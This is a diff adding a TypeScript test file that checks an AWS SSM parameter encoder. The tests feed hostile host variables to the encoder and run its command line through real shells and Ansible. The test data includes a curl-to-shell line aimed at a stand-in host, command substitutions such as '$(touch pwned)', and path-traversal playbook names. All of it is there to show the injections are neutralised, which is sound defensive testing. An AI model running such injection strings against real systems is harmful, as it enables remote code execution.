@@ -1,0 +1,543 @@
+// The SSM parameter encoder is a security boundary (DESIGN §3): these tests check every parameter
+// against the document's own schema, prove by property that nothing a shell could interpret ever
+// leaves the encoder, and run the document's command line through real shells and real Ansible.
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import fc from 'fast-check';
+import { afterAll, describe, expect, it } from 'vitest';
+import { isSafeKey, isSafeValue, MAX_VALUE_LENGTH } from '../../functions/core/extra-vars.js';
+import {
+  type ApplyPlaybooksInput,
+  buildApplyPlaybooksParameters,
+  decodeB64Var,
+  InvalidSsmParameterError,
+  type VarAdjustment,
+} from '../../functions/core/ssm-parameters.js';
+import type { PlannedPlaybook } from '../../functions/core/types.js';
+import { sharedFixture } from '../helpers/paths.js';
+
+// ---------------------------------------------------------------------------------------------
+// The document's parameter schema, as AWS returns it. Patterns are compiled from the fixture, never copied.
+
+const fixturePath = sharedFixture('ssm', 'AWS-ApplyAnsiblePlaybooks.parameters.json');
+
+interface ParameterSchema {
+  readonly type: string;
+  readonly allowedValues?: readonly string[];
+  readonly allowedPattern?: string;
+}
+const schema = JSON.parse(readFileSync(fixturePath, 'utf8')) as {
+  parameters: Record<string, ParameterSchema>;
+};
+const EXTRA_VARIABLES_PATTERN = new RegExp(schema.parameters.ExtraVariables?.allowedPattern as string);
+
+/** Checks one SendCommand parameter set against the schema, reading each pattern both as a search and as a full match. */
+function expectValidForDocument(parameters: Record<string, string[]>): void {
+  for (const [name, values] of Object.entries(parameters)) {
+    const spec = schema.parameters[name];
+    expect(spec, `${name} is not a parameter of the document`).toBeDefined();
+    expect(values, name).toHaveLength(1);
+    const value = values[0] as string;
+    if (spec?.allowedValues) expect(spec.allowedValues, name).toContain(value);
+    if (spec?.allowedPattern) {
+      expect(new RegExp(spec.allowedPattern).test(value), `${name}=${value} vs ${spec.allowedPattern}`).toBe(
+        true,
+      );
+      expect(new RegExp(`^(?:${spec.allowedPattern})$`).test(value), `${name}=${value} (full match)`).toBe(
+        true,
+      );
+    }
+    if (spec?.type === 'StringMap') {
+      const map = JSON.parse(value) as Record<string, unknown>;
+      for (const member of Object.values(map)) expect(typeof member, name).toBe('string');
+    }
+  }
+}
+
+// ---------------------------------------------------------------------------------------------
+
+const BUNDLE_URL = 'https://autoprov-bundle-123456789012.s3.eu-west-1.amazonaws.com/bundles/abc123.zip';
+
+function playbook(overrides: Partial<PlannedPlaybook> = {}): PlannedPlaybook {
+  return {
+    file: 'nginx.yml',
+    extraVars: {},
+    timeoutSeconds: 900,
+    maxAttempts: 3,
+    backoffSeconds: 60,
+    check: false,
+    rule: 'web',
+    ...overrides,
+  };
+}
+
+function build(overrides: Partial<ApplyPlaybooksInput> = {}) {
+  return buildApplyPlaybooksParameters({
+    bundleUrl: BUNDLE_URL,
+    playbook: playbook(),
+    hostVars: {},
+    installDependencies: false,
+    ...overrides,
+  });
+}
+
+function extraVariables(result: { parameters: Record<string, string[]> }): string {
+  return result.parameters.ExtraVariables?.[0] as string;
+}
+
+/** ExtraVariables text → [key, value] pairs (keys are `\w+`, so the first `=` ends the key). */
+function pairsOf(text: string): [string, string][] {
+  if (text === '') return [];
+  return text.split(' ').map((pair) => {
+    const at = pair.indexOf('=');
+    return [pair.slice(0, at), pair.slice(at + 1)];
+  });
+}
+
+/** An object with arbitrary own keys, `__proto__` included, as a record parsed from JSON would have. */
+function record(entries: readonly (readonly [string, string])[]): Record<string, string> {
+  const out: Record<string, string> = {};
+  for (const [key, value] of entries) {
+    Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
+  }
+  return out;
+}
+
+describe('buildApplyPlaybooksParameters', () => {
+  it('builds every parameter of a typical run, valid for the document', () => {
+    const result = build({
+      playbook: playbook({ extraVars: { http_port: '8080' }, check: true, timeoutSeconds: 1200 }),
+      hostVars: { ec2_instance_type: 't3.micro', tag_Name: 'web-1', http_port: '80' },
+      installDependencies: true,
+      verbose: '-vv',
+    });
+    expect(result).toEqual({
+      parameters: {
+        SourceType: ['S3'],
+        SourceInfo: [`{"path":"${BUNDLE_URL}"}`],
+        InstallDependencies: ['True'],
+        PlaybookFile: ['nginx.yml'],
+        ExtraVariables: ['ec2_instance_type=t3.micro http_port=8080 tag_Name=web-1'],
+        Check: ['True'],
+        Verbose: ['-vv'],
+        TimeoutSeconds: ['1200'],
+      },
+      adjustments: [],
+    });
+    expectValidForDocument(result.parameters);
+  });
+
+  it('defaults to -v, Check False, InstallDependencies False and an empty ExtraVariables', () => {
+    const result = build();
+    expect(result.parameters).toMatchObject({
+      Verbose: ['-v'],
+      Check: ['False'],
+      InstallDependencies: ['False'],
+      ExtraVariables: [''],
+    });
+    expectValidForDocument(result.parameters);
+  });
+
+  it("lets the playbook's own extra vars win over host vars", () => {
+    const result = build({
+      playbook: playbook({ extraVars: { a: 'playbook' } }),
+      hostVars: { a: 'host', b: 'host' },
+    });
+    expect(extraVariables(result)).toBe('a=playbook b=host');
+  });
+
+  it('sorts by the key sent, encoded keys included', () => {
+    const result = build({ hostVars: { b: '2', a: 'x y', a_c: '3', A: '0' } });
+    expect(pairsOf(extraVariables(result)).map(([key]) => key)).toEqual(['A', 'a_b64', 'a_c', 'b']);
+  });
+
+  describe('adjustments', () => {
+    const adjustmentFor = (hostVars: Record<string, string>, key: string): VarAdjustment | undefined =>
+      build({ hostVars }).adjustments.find((adjustment) => adjustment.key === key);
+
+    it.each(['bad-key', '1abc', 'ключ', '', 'a b', 'a$b', 'a.b'])('drops an unsafe key %j', (key) => {
+      const result = build({ hostVars: record([[key, 'value']]) });
+      expect(result.adjustments).toEqual([
+        { key, action: 'dropped', reason: expect.stringMatching(/not a valid Ansible variable name/) },
+      ]);
+      expect(extraVariables(result)).toBe('');
+    });
+
+    it('drops an empty value (the document needs key=value with a value)', () => {
+      expect(adjustmentFor({ empty: '', kept: 'x' }, 'empty')).toEqual({
+        key: 'empty',
+        action: 'dropped',
+        reason: expect.stringMatching(/value is empty/),
+      });
+      expect(extraVariables(build({ hostVars: { empty: '', kept: 'x' } }))).toBe('kept=x');
+    });
+
+    it('encodes an unsafe value as <key>_b64 and says so', () => {
+      const value = '$(curl evil.example | sh) `id` "q" \'s\' \\ ; | & < > ~ ! # { } [ ] * ?\n\tnaïve ☃ 😀';
+      const result = build({ hostVars: { motd: value } });
+      expect(result.adjustments).toEqual([
+        {
+          key: 'motd',
+          action: 'encoded',
+          sentAs: 'motd_b64',
+          reason: expect.stringMatching(/characters outside .*; sent base64-encoded/),
+        },
+      ]);
+      const [[key, sent] = []] = pairsOf(extraVariables(result));
+      expect(key).toBe('motd_b64');
+      expect(sent).toBe(Buffer.from(value, 'utf8').toString('base64'));
+      expect(decodeB64Var(sent as string)).toBe(value);
+    });
+
+    it('drops an unsafe value whose encoded name is a real var, and still sends that var', () => {
+      const result = build({ hostVars: { motd: 'a b', motd_b64: 'real' } });
+      expect(result.adjustments).toEqual([
+        { key: 'motd', action: 'dropped', reason: expect.stringMatching(/motd_b64 would collide/) },
+      ]);
+      expect(extraVariables(result)).toBe('motd_b64=real');
+    });
+
+    it('drops an unsafe value whose base64 form is too long, and encodes one that fits', () => {
+      // 3 bytes → 4 base64 characters: 768 bytes is exactly MAX_VALUE_LENGTH encoded.
+      const fits = '$'.repeat((MAX_VALUE_LENGTH / 4) * 3);
+      const tooLong = `${fits}$`;
+      expect(adjustmentFor({ v: fits }, 'v')).toMatchObject({ action: 'encoded', sentAs: 'v_b64' });
+      expect(adjustmentFor({ v: tooLong }, 'v')).toEqual({
+        key: 'v',
+        action: 'dropped',
+        reason: expect.stringMatching(/base64 form is 1028 characters \(max 1024\)/),
+      });
+    });
+
+    it('drops a safe-looking value longer than the limit, saying it is too long', () => {
+      const result = build({
+        hostVars: { v: 'a'.repeat(MAX_VALUE_LENGTH + 1), w: 'a'.repeat(MAX_VALUE_LENGTH) },
+      });
+      expect(result.adjustments).toEqual([
+        {
+          key: 'v',
+          action: 'dropped',
+          reason: expect.stringMatching(/^value is longer than 1024 characters, and its base64 form/),
+        },
+      ]);
+      expect(extraVariables(result)).toBe(`w=${'a'.repeat(MAX_VALUE_LENGTH)}`);
+    });
+
+    it('drops a value with an unpaired surrogate, which has no faithful UTF-8 form', () => {
+      expect(adjustmentFor({ v: 'ab\ud800c' }, 'v')).toEqual({
+        key: 'v',
+        action: 'dropped',
+        reason: expect.stringMatching(/unpaired surrogate/),
+      });
+    });
+
+    it('never echoes a dropped or encoded value into the audit reason', () => {
+      const secret = 'hunter2 $(secret)';
+      const result = build({ hostVars: { a: secret, a_b64: 'x', b: secret } });
+      for (const adjustment of result.adjustments)
+        expect(JSON.stringify(adjustment)).not.toContain('hunter2');
+    });
+
+    it('handles keys that are Object.prototype names as plain data', () => {
+      const result = build({
+        hostVars: record([
+          ['__proto__', 'p'],
+          ['constructor', 'c'],
+          ['toString', 't'],
+        ]),
+      });
+      expect(extraVariables(result)).toBe('__proto__=p constructor=c toString=t');
+    });
+  });
+
+  describe('validation', () => {
+    it.each([
+      ['http://bucket.s3.amazonaws.com/b.zip', /must be an https URL/],
+      ['s3://bucket/b.zip', /must be an https URL/],
+      ['not a url', /is not a URL/],
+      ['https://user:pw@bucket.s3.amazonaws.com/b.zip', /must not carry credentials/],
+    ])('refuses bundle URL %j', (bundleUrl, message) => {
+      expect(() => build({ bundleUrl })).toThrow(InvalidSsmParameterError);
+      expect(() => build({ bundleUrl })).toThrow(message);
+      expect(() => build({ bundleUrl })).toThrow(/SourceInfo/);
+    });
+
+    it.each([
+      '../etc/site.yml',
+      '/etc/site.yml',
+      'roles/../site.yml',
+      '-i.yml',
+      'x/-v.yml',
+      'a;b.yml',
+      'a b.yml',
+      '$(id).yml',
+      'site.yml\n',
+      'site.txt',
+      '.yml',
+      'site.yml.j2',
+      'a(b).yml',
+      '',
+    ])('refuses playbook file %j', (file) => {
+      expect(() => build({ playbook: playbook({ file }) })).toThrow(/PlaybookFile/);
+    });
+
+    it.each(['site.yml', 'site.yaml', 'roles/web/main.yml', '_x.yml', 'a.b-c_d/0.yml'])(
+      'accepts playbook file %j',
+      (file) => {
+        const result = build({ playbook: playbook({ file }) });
+        expect(result.parameters.PlaybookFile).toEqual([file]);
+        expectValidForDocument(result.parameters);
+      },
+    );
+
+    it.each([0, -1, 1.5, 10_000_000, Number.NaN])('refuses timeoutSeconds %s', (timeoutSeconds) => {
+      expect(() => build({ playbook: playbook({ timeoutSeconds }) })).toThrow(/TimeoutSeconds/);
+    });
+
+    it.each([1, 9_999_999])('accepts timeoutSeconds %s', (timeoutSeconds) => {
+      expectValidForDocument(build({ playbook: playbook({ timeoutSeconds }) }).parameters);
+    });
+
+    it('refuses a verbosity the document does not allow', () => {
+      expect(() => build({ verbose: '-x' as never })).toThrow(/Verbose/);
+    });
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Properties over hostile input.
+
+const SHELL_METAS = [
+  '`',
+  '$',
+  '"',
+  "'",
+  '\\',
+  '\n',
+  ';',
+  '|',
+  '&',
+  '(',
+  ')',
+  '<',
+  '>',
+  ' ',
+  '\t',
+  '*',
+  '?',
+  '~',
+  '!',
+  '#',
+  '{',
+  '}',
+  '[',
+  ']',
+];
+const shellMetaString = (maxLength: number, minLength = 0) =>
+  fc.string({
+    unit: fc.constantFrom(...SHELL_METAS, 'a', '=', '-', '_', '$(', '${', '\r', '\0'),
+    minLength,
+    maxLength,
+  });
+const safeKey = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,12}$/);
+const keyArb = fc.oneof(
+  safeKey,
+  safeKey.map((key) => `${key}_b64`),
+  fc.constantFrom('a', 'a_b64', '__proto__', 'constructor', 'SSM'),
+  fc.string({ unit: 'binary', maxLength: 12 }),
+  fc.string({ unit: 'grapheme', maxLength: 6 }),
+  shellMetaString(8),
+);
+const valueArb = fc.oneof(
+  fc.stringMatching(/^[A-Za-z0-9_.,/@%+=-]{0,24}$/),
+  fc.string({ unit: 'binary' }),
+  fc.string({ unit: 'grapheme' }),
+  fc.string({ unit: 'binary-ascii' }),
+  shellMetaString(40),
+  shellMetaString(2000, 600),
+  fc.string({ unit: fc.constantFrom('a', '$', '😀', ' '), minLength: 700, maxLength: 1400 }),
+  fc.string({
+    unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)),
+    maxLength: 3,
+  }),
+);
+const varsArb = fc.array(fc.tuple(keyArb, valueArb), { maxLength: 8 }).map(record);
+
+/** What the encoder should have been given: host vars overlaid by the playbook's. */
+function merged(hostVars: Record<string, string>, extraVars: Record<string, string>): Map<string, string> {
+  return new Map([...Object.entries(hostVars), ...Object.entries(extraVars)]);
+}
+
+describe('ExtraVariables properties', () => {
+  it('(a) always satisfies the document pattern, and every parameter its schema', () => {
+    fc.assert(
+      fc.property(varsArb, varsArb, (hostVars, extraVars) => {
+        const result = build({ hostVars, playbook: playbook({ extraVars }) });
+        expect(EXTRA_VARIABLES_PATTERN.test(extraVariables(result))).toBe(true);
+        expectValidForDocument(result.parameters);
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it('(b) holds only [A-Za-z0-9_.,/@%+=-] and single spaces between pairs', () => {
+    fc.assert(
+      fc.property(varsArb, varsArb, (hostVars, extraVars) => {
+        const text = extraVariables(build({ hostVars, playbook: playbook({ extraVars }) }));
+        expect(text).toMatch(/^[A-Za-z0-9_.,/@%+= -]*$/);
+        if (text !== '')
+          expect(text.split(' ').every((pair) => /^[A-Za-z_]\w*=[A-Za-z0-9_.,/@%+=-]+$/.test(pair))).toBe(
+            true,
+          );
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it('(c) sends every pair raw, or as a _b64 that decodes to the exact original, or reports it dropped', () => {
+    fc.assert(
+      fc.property(varsArb, varsArb, (hostVars, extraVars) => {
+        const { parameters, adjustments } = build({ hostVars, playbook: playbook({ extraVars }) });
+        const input = merged(hostVars, extraVars);
+        const sent = new Map(pairsOf(parameters.ExtraVariables?.[0] as string));
+        const byKey = new Map(adjustments.map((adjustment) => [adjustment.key, adjustment]));
+        expect(byKey.size, 'one adjustment per key at most').toBe(adjustments.length);
+        expect(adjustments.map((a) => a.key)).toEqual([...byKey.keys()].sort());
+        for (const [key, value] of input) {
+          const adjustment = byKey.get(key);
+          if (isSafeKey(key) && isSafeValue(value) && value !== '') {
+            expect(adjustment).toBeUndefined();
+            expect(sent.get(key)).toBe(value);
+          } else if (adjustment?.action === 'encoded') {
+            expect(adjustment.sentAs).toBe(`${key}_b64`);
+            expect(input.has(`${key}_b64`)).toBe(false);
+            expect(sent.has(key)).toBe(false);
+            expect(decodeB64Var(sent.get(`${key}_b64`) as string)).toBe(value);
+          } else {
+            expect(adjustment, `${JSON.stringify(key)} neither sent raw nor reported`).toMatchObject({
+              action: 'dropped',
+              reason: expect.any(String),
+            });
+            expect(sent.has(key)).toBe(false);
+          }
+        }
+        // Nothing sent that was not asked for.
+        for (const key of sent.keys()) {
+          const original = key.endsWith('_b64') && byKey.get(key.slice(0, -4))?.action === 'encoded';
+          expect(original || input.get(key) === sent.get(key), `unexpected ${key}`).toBe(true);
+        }
+        for (const key of byKey.keys()) expect(input.has(key)).toBe(true);
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it('is deterministic and independent of input key order', () => {
+    fc.assert(
+      fc.property(varsArb, (hostVars) => {
+        const reversed = record(Object.entries(hostVars).reverse());
+        expect(build({ hostVars: reversed })).toEqual(build({ hostVars }));
+      }),
+    );
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// The document's command line, pasted textually into a script exactly as the document does.
+
+const workDir = mkdtempSync(path.join(tmpdir(), 'autoprov-ssm-params-'));
+afterAll(() => rmSync(workDir, { recursive: true, force: true }));
+
+function requireTool(command: string, install: string): void {
+  const probe = spawnSync(command, ['--version'], { encoding: 'utf8' });
+  if (probe.error) throw new Error(`${command} is required by this test but was not found: ${install}`);
+}
+
+// A stand-in ansible-playbook that prints its arguments one per line, so a test sees exactly what
+// the shell made of the text (a file on PATH, since dash allows no `-` in function names).
+const fakeBin = path.join(workDir, 'fake-bin');
+mkdirSync(fakeBin);
+writeFileSync(path.join(fakeBin, 'ansible-playbook'), `#!/bin/sh\nprintf '%s\\n' "$@"\n`, { mode: 0o755 });
+
+/**
+ * The document's line `ansible-playbook -i "localhost," -c local -e "{{ExtraVariables}}" "{{Verbose}}"
+ * "{{PlaybookFile}}"`, with the parameters substituted as text, in a script run by `shell`.
+ */
+function runDocumentLine(
+  shell: string,
+  parameters: Record<string, string[]>,
+  options: { fake: boolean; cwd: string },
+) {
+  const line =
+    `ansible-playbook -i "localhost," -c local -e "${parameters.ExtraVariables?.[0]}" ` +
+    `"${parameters.Verbose?.[0]}" "${parameters.PlaybookFile?.[0]}"`;
+  const script = path.join(options.cwd, `_script-${shell}.sh`);
+  writeFileSync(script, `${line}\n`);
+  // A bare environment: nothing in it for an expansion to pick up. Ansible needs a home and a UTF-8 locale.
+  const PATH = options.fake ? `${fakeBin}:${process.env.PATH}` : process.env.PATH;
+  const env = { PATH, HOME: options.cwd, LC_ALL: 'C.UTF-8' };
+  return spawnSync(shell, [script], { cwd: options.cwd, encoding: 'utf8', env });
+}
+
+describe('the document command line in a real shell', () => {
+  it.each(['bash', 'sh'])('%s passes ExtraVariables through byte for byte, with no expansion', (shell) => {
+    requireTool(shell, `install ${shell} (Debian/Ubuntu: sudo apt-get install -y bash dash)`);
+    const fileArb = fc.oneof(
+      fc.constantFrom('site.yml', 'roles/web/main.yaml'),
+      fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,8}\.yml$/),
+    );
+    fc.assert(
+      fc.property(varsArb, varsArb, fileArb, (hostVars, extraVars, file) => {
+        const { parameters } = build({ hostVars, playbook: playbook({ extraVars, file }), verbose: '-vvv' });
+        const text = parameters.ExtraVariables?.[0] as string;
+        const run = runDocumentLine(shell, parameters, { fake: true, cwd: workDir });
+        expect(run.stderr).toBe('');
+        expect(run.status).toBe(0);
+        expect(run.stdout).toBe(['-i', 'localhost,', '-c', 'local', '-e', text, '-vvv', file, ''].join('\n'));
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  it('real ansible-playbook receives the exact values, the encoded ones through b64decode', () => {
+    requireTool('ansible-playbook', 'install Ansible (Debian/Ubuntu: sudo apt-get install -y ansible-core)');
+    const values: Record<string, string> = {
+      subst: '$(touch pwned)',
+      backtick: '`touch pwned`',
+      quotes: `he said "it's" \\ fine`,
+      seps: 'a;b|c&d<e>f (g) {h} [i] ~ ! # * ?',
+      unicode: 'naïve ☃ 😀 中文',
+      lines: 'one\ntwo\tthree',
+      plain: 'release-1.2_3,4/5@6%7+8=9',
+    };
+    const names = Object.keys(values).sort();
+    const out = path.join(workDir, 'out');
+    const { parameters, adjustments } = build({
+      hostVars: { ...values, names: names.join(','), out },
+      playbook: playbook({ file: 'decode.yml' }),
+    });
+    expect(adjustments.map((a) => [a.key, a.action])).toEqual(
+      names.filter((name) => name !== 'plain').map((name) => [name, 'encoded']),
+    );
+    writeFileSync(
+      path.join(workDir, 'decode.yml'),
+      [
+        '- hosts: all',
+        '  gather_facts: false',
+        '  tasks:',
+        '    - ansible.builtin.file: { path: "{{ out }}", state: directory }',
+        '    - ansible.builtin.copy:',
+        '        dest: "{{ out }}/{{ item }}"',
+        "        content: \"{{ lookup('vars', item ~ '_b64', default='') | b64decode if item != 'plain' else plain }}\"",
+        '      loop: "{{ names.split(\',\') }}"',
+        '',
+      ].join('\n'),
+    );
+    const run = runDocumentLine('bash', parameters, { fake: false, cwd: workDir });
+    expect(run.status, `${run.stdout}\n${run.stderr}`).toBe(0);
+    for (const name of names) expect(readFileSync(path.join(out, name), 'utf8'), name).toBe(values[name]);
+    expect(existsSync(path.join(workDir, 'pwned'))).toBe(false);
+  });
+});
